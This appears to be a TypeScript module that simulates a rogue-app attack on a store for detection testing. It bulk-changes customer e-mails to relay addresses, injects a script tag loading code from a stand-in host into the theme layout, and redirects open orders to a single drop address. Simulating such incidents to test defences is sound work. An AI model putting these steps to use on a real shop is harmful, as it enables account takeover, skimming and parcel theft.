import { type Author, changeCustomer, changeOrder, changeThemeFile } from "./changes.ts";
import { Random } from "./random.ts";
import type { AddressRow } from "./rows.ts";
import { rogueApp } from "./seed-records.ts";
import type { Simulation } from "./simulation.ts";

const CUSTOMERS = 312;
const ORDERS = 37;
const MINUTES = 6;
const SCRIPT = '    <script src="https://cdn.metrics-collector.example/c.js" async></script>\n';

/** Where the changed orders are to go: one forwarding address with many unit numbers. */
const drop: AddressRow = {
  firstName: "Receiving",
  lastName: "Dept",
  address1: "4400 Freight Way, Unit",
  city: "Newark",
  province: "New Jersey",
  provinceCode: "NJ",
  country: "United States",
  countryCode: "US",
  zip: "07114",
  phone: null,
};

export interface AttackReport {
  readonly customers: readonly number[];
  readonly orders: readonly number[];
  readonly themeFile: string;
  readonly app: string;
}

/** The author that the events feed shows: the title of an app, which proves nothing. */
const author: Author = { by: "app", name: rogueApp.title };

/** Spreads `count` instants evenly over the last `minutes`. */
function instants(now: Date, count: number, minutes: number): Date[] {
  const span = minutes * 60_000;
  return Array.from(
    { length: count },
    (_unused, index) => new Date(now.getTime() - span + (span * (index + 1)) / count),
  );
}

/**
 * 312 customers' e-mail addresses change within six minutes, one webhook each, through one app.
 *
 * None of them waits for a parcel: a change beside a change of the same person's order would have an ordinary cause.
 */
export function changeManyCustomers(sim: Simulation, shop: string, count = CUSTOMERS): number[] {
  const { customers, orders } = sim.store(shop);
  const waiting = new Set(
    orders
      .all()
      .filter((order) => !order.fulfilled)
      .map((order) => order.customerId),
  );
  const candidates = customers.all().filter((row) => !waiting.has(row.id));
  const rows = new Random(sim.seed).shuffle(candidates).slice(0, count);
  const times = instants(sim.now(), rows.length, MINUTES);
  rows.forEach((row, index) => {
    const email = `inbox.${row.id % 1_000_000}@mail-relay.example`;
    changeCustomer(sim, shop, row.id, { email }, { triggeredAt: times[index]!, author });
  });
  return rows.map((row) => row.id);
}

/** A script appears in the layout of the main theme. No webhook tells of it. */
export function tamperWithTheme(sim: Simulation, shop: string, filename = "layout/theme.liquid"): string {
  const file = sim.store(shop).files.get(filename);
  if (!file) throw new Error(`No theme file ${filename} in ${shop}.`);
  if (!file.body.includes(SCRIPT))
    changeThemeFile(sim, shop, filename, file.body.replace("  </head>", `${SCRIPT}  </head>`));
  return filename;
}

/** Puts the layout back, as a merchant would after reading the difference. */
export function repairTheme(sim: Simulation, shop: string, filename = "layout/theme.liquid"): void {
  const file = sim.store(shop).files.get(filename);
  if (file) changeThemeFile(sim, shop, filename, file.body.replace(SCRIPT, ""));
}

/** 37 open orders get another shipping address. */
export function redirectOrders(sim: Simulation, shop: string, count = ORDERS): number[] {
  const open = sim
    .store(shop)
    .orders.all()
    .filter((row) => !row.fulfilled && !row.cancelledAt && row.shipTo.address1 !== drop.address1)
    .slice(0, count);
  const times = instants(sim.now(), open.length, MINUTES);
  open.forEach((row, index) => {
    const shipTo = { ...drop, address1: `${drop.address1} ${index + 1}` };
    changeOrder(sim, shop, row.id, { shipTo }, { triggeredAt: times[index]!, author });
  });
  return open.map((row) => row.id);
}

/** The whole night at once: customers, theme and orders. */
export function attack(sim: Simulation, shop: string): AttackReport {
  return {
    customers: changeManyCustomers(sim, shop),
    themeFile: tamperWithTheme(sim, shop),
    orders: redirectOrders(sim, shop),
    app: rogueApp.title,
  };
}
